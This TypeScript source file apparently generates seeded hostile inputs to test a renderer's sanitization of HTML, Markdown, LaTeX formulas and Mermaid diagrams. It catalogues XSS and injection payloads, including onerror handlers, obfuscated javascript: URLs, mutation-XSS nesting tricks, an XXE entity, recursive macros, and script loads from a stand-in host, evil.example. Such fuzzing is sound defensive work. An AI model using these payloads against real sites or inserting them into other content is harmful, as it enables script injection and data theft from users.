/** Text number `i` of the hostile ones: the same for everybody. */
export function hostileText(i: number): string {
  const pick = picker(i)
  const count = 1 + pick([0, 0, 1, 2])
  const parts = Array.from({ length: count }, () => wrap(pick, spoil(pick, pick(attacks)(pick, i))))
  return parts.join(pick(['\n\n', '\n', ' ', '\r\n\r\n']))
}

type Pick = <Item>(items: readonly Item[]) => Item
type Attack = (pick: Pick, i: number) => string

/** Choices that follow from the seed alone (mulberry32). */
function picker(seed: number): Pick {
  let state = (seed + 1) * 0x9e3779b1
  return items => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    const at = ((mixed ^ (mixed >>> 14)) >>> 0) % items.length
    return items[at] as (typeof items)[number]
  }
}

const script: Attack = pick =>
  pick([
    'top.pwned=1',
    'window.pwned=1',
    'top["pwned"]=1',
    'parent.pwned=1',
    'fetch(`http://evil.example/s`)',
    'import(`//evil.example/m.js`)',
  ])
const address: Attack = (pick, i) =>
  pick(['http://', 'https://', '//', 'HTTP://', 'http:\\\\', '/\\', 'https:', 'ws://', 'ftp://']) +
  pick(['evil.example', 'user@evil.example', 'evil.example:81', 'xn--evl-hoa.example']) +
  `/${i}${pick(['', '.png', '.css', '.js', '?a=1&b=2', '#x'])}`
const scriptAddress: Attack = (pick, i) =>
  pick([
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    '&#106;avascript:',
    '&#x6A;avascript&colon;',
    ' javascript:',
    '\u0001javascript:',
    'vbscript:',
    'data:text/html,<script>',
    'data:image/svg+xml,<svg onload=',
    'blob:',
    'view-source:javascript:',
  ]) + script(pick, i)
const event: Attack = pick =>
  pick([
    'onerror',
    'onload',
    'onfocus autofocus tabindex=0 x',
    'ontoggle',
    'onbegin',
    'onanimationstart',
    'onpointerover',
    'ONERROR',
    'onstart',
    'onscroll',
  ])
const any: Attack = (pick, i) => pick([address, scriptAddress])(pick, i)

const html: readonly Attack[] = [
  (pick, i) => `<img src="${address(pick, i)}" ${event(pick, i)}="${script(pick, i)}">`,
  (pick, i) => `<img src=x ${event(pick, i)}=${script(pick, i)}>`,
  (pick, i) => `<img srcset="${address(pick, i)} 1x" loading=eager>`,
  (pick, i) => `<picture><source srcset="${address(pick, i)}"><img></picture>`,
  (pick, i) => `<script>${script(pick, i)}</script>`,
  (pick, i) => `<script src="${address(pick, i)}"></script>`,
  (pick, i) =>
    `<svg ${event(pick, i)}="${script(pick, i)}"><image href="${address(pick, i)}"/><use href="${address(pick, i)}#x"/></svg>`,
  (pick, i) =>
    `<svg><script href="${address(pick, i)}"/><animate onbegin="${script(pick, i)}" attributeName=x dur=1s></svg>`,
  (pick, i) => `<svg><foreignObject><iframe src="${any(pick, i)}"></iframe></foreignObject></svg>`,
  (pick, i) => `<iframe src="${any(pick, i)}" srcdoc="<script>${script(pick, i)}</script>"></iframe>`,
  (pick, i) => `<object data="${any(pick, i)}"></object><embed src="${any(pick, i)}">`,
  (pick, i) =>
    `<link rel=${pick(['stylesheet', 'preload as=image', 'prefetch', 'dns-prefetch', 'preconnect', 'modulepreload'])} href="${address(pick, i)}">`,
  (pick, i) => `<meta http-equiv=refresh content="0;url=${any(pick, i)}">`,
  (pick, i) => `<base href="${address(pick, i)}"><a href="x">x</a>`,
  (pick, i) =>
    `<form action="${any(pick, i)}"><input type=image src="${address(pick, i)}"><button formaction="${any(pick, i)}">x</button></form>`,
  (pick, i) =>
    `<video src="${address(pick, i)}" poster="${address(pick, i)}" autoplay ${event(pick, i)}="${script(pick, i)}"></video>`,
  (pick, i) => `<audio autoplay><source src="${address(pick, i)}" onerror="${script(pick, i)}"></audio>`,
  (pick, i) => `<style>@import "${address(pick, i)}"; * { background: url(${address(pick, i)}) }</style>`,
  (pick, i) => `<div style="background:url(${address(pick, i)});position:fixed;inset:0">x</div>`,
  (pick, i) => `<table background="${address(pick, i)}"><td background="${address(pick, i)}">x`,
  (pick, i) => `<body background="${address(pick, i)}" onload="${script(pick, i)}">`,
  (pick, i) => `<details open ontoggle="${script(pick, i)}"><summary>x</summary></details>`,
  (pick, i) =>
    `<a href="${scriptAddress(pick, i)}" ping="${address(pick, i)}" ${event(pick, i)}="${script(pick, i)}">x</a>`,
  (pick, i) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script(pick, i)}&gt;">`,
  (pick, i) => `<noscript><p title="</noscript><img src=x onerror=${script(pick, i)}>">`,
  (pick, i) => `<template><script>${script(pick, i)}</script></template><xmp><img src="${address(pick, i)}"></xmp>`,
  (pick, i) =>
    `<?xml-stylesheet href="${address(pick, i)}"?><!DOCTYPE x [<!ENTITY e SYSTEM "${address(pick, i)}">]>&e;`,
  (pick, i) => `<!--><img src=x onerror=${script(pick, i)}>-->`,
]

const markdown: readonly Attack[] = [
  (pick, i) => `![x](${any(pick, i)})`,
  (pick, i) => `![x](<${any(pick, i)}> "x\\" onerror=${script(pick, i)}")`,
  (pick, i) => `[x](${scriptAddress(pick, i)})`,
  (pick, i) => `[x](<${scriptAddress(pick, i)}> 'x" onclick="${script(pick, i)}')`,
  (pick, i) => `<${scriptAddress(pick, i)}>`,
  (pick, i) => `![x][r${i}] [x][r${i}]\n\n[r${i}]: ${any(pick, i)} "x"`,
  (pick, i) => `x[^${i}]\n\n[^${i}]: ![x](${address(pick, i)}) <img src=x onerror=${script(pick, i)}>`,
  (pick, i) => `[^"><img src=x onerror=${script(pick, i)}>]\n\n[^"><img src=x onerror=${script(pick, i)}>]: x`,
  (pick, i) => `[x](#note-1"onclick=${script(pick, i)})`,
  (pick, i) => `[![x](${address(pick, i)})](${scriptAddress(pick, i)})`,
  (pick, i) => `| a | ![x](${address(pick, i)}) |\n|---|---|\n| <img src=x onerror=${script(pick, i)}> | b |`,
  (pick, i) =>
    `\`\`\`${pick(['html', 'js', 'constructor', '__proto__', '"><img src=x>', 'ts" onload="x'])}\n<img src="${address(pick, i)}">\n</code></pre><script>${script(pick, i)}</script>\n`,
  (pick, i) => `- [x] <img src=x onerror=${script(pick, i)}>\n- [ ] ![x](${address(pick, i)})`,
]

const formulas: readonly Attack[] = [
  (pick, i) => `$\\href{${scriptAddress(pick, i)}}{x}$`,
  (pick, i) => `\\(\\url{${any(pick, i)}}\\)`,
  (pick, i) => `$$\\includegraphics{${address(pick, i)}}$$`,
  () => `$\\htmlData{x=1}{y} \\htmlClass{scrim}{y} \\htmlId{root}{y}$`,
  (pick, i) => `$\\htmlStyle{background:url(${address(pick, i)})}{y}$`,
  (pick, i) => `\\[\\text{<img src=x onerror=${script(pick, i)}>}\\]`,
  (pick, i) => `\`\uE000\\href{${scriptAddress(pick, i)}}{x}\``,
  () => '$\\def\\a{\\a\\a}\\a$',
  () => `$${'{'.repeat(200)}$`,
]

const diagramTexts: readonly Attack[] = [
  (pick, i) =>
    `graph TD\n  A["<img src='${address(pick, i)}' onerror='${script(pick, i)}'>"] --> B\n  click A "${scriptAddress(pick, i)}"`,
  (pick, i) => `graph TD\n  A --> B\n  click A href "${scriptAddress(pick, i)}"\n  click B call ${script(pick, i)}()`,
  (pick, i) =>
    `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* { background: url(${address(pick, i)}) }"}}%%\ngraph TD\n  A["<script>${script(pick, i)}</script>"]`,
  (pick, i) => `graph TD\n  A@{ img: "${address(pick, i)}", label: "x" }\n  style A fill:url(${address(pick, i)})`,
  (pick, i) =>
    `sequenceDiagram\n  A->>B: <img src=x onerror=${script(pick, i)}>\n  links A: {"x": "${scriptAddress(pick, i)}"}`,
  (pick, i) =>
    `---\nconfig:\n  fontFamily: "x;} @import url(${address(pick, i)}); {"\n---\npie\n  "<svg onload=${script(pick, i)}>" : 1`,
]
const diagrams = diagramTexts.map(
  (text): Attack =>
    (pick, i) =>
      `\`\`\`mermaid
${text(pick, i)}
\`\`\``,
)

// Diagrams take longest to draw: they are a small part of the attacks.
const attacks: readonly Attack[] = [html, markdown, html, markdown, formulas].flat().concat(diagrams)

/** What parsers disagree about: case, blanks, entities, unclosed quotes, invisible characters. */
function spoil(pick: Pick, text: string): string {
  return pick<(text: string) => string>([
    same => same,
    same => same,
    same => same,
    same => same.replace(/<(\w)/g, '<\u0000$1'),
    same => same.replace(/<(\w+)/g, (_, tag: string) => `<${tag.toUpperCase()}`),
    same => same.replaceAll(' ', '/'),
    same => same.replaceAll('"', ''),
    same => same.replaceAll('"', '&quot;'),
    same => same.replaceAll('<', '<<'),
    same => same.replace(/>$/, ''),
    same => same.replaceAll('<', '\\<'),
    same => `${same}\u202E\u200B`,
  ])(text)
}

/** Places in Markdown. */
function wrap(pick: Pick, text: string): string {
  return pick<(text: string) => string>([
    same => same,
    same => same,
    same => `> ${same.replaceAll('\n', '\n> ')}`,
    same => `- x\n  - ${same.replaceAll('\n', '\n    ')}`,
    same => `# ${same}`,
    same => `**${same}**`,
    same => `[${same}](https://example.com/)`,
    same => `<div>\n\n${same}\n\n</div>`,
    same => `<!-- ${same}`,
    same => `\`${same}`,
    same => `$${same}$`,
    same => `\\(${same}\\)`,
  ])(text)
}
